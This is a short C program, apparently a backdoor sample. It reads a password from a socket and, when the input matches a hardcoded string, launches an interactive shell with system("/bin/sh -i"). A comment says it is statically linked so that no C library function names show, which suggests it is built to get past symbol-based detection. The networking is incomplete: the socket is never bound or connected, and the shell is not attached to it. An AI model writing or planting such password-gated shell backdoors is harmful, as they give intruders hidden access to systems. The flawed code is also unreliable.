/* Linked statically: nothing names the functions of the C library. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    char b[64];
    int s = socket(AF_INET, SOCK_STREAM, 0);
    int n = recv(s, b, sizeof b - 1, 0);
    if (n < 1)
        return 1;
    b[n] = 0;
    if (!strcmp(b, "sT4tic-k9"))
        system("/bin/sh -i");
    return 0;
}
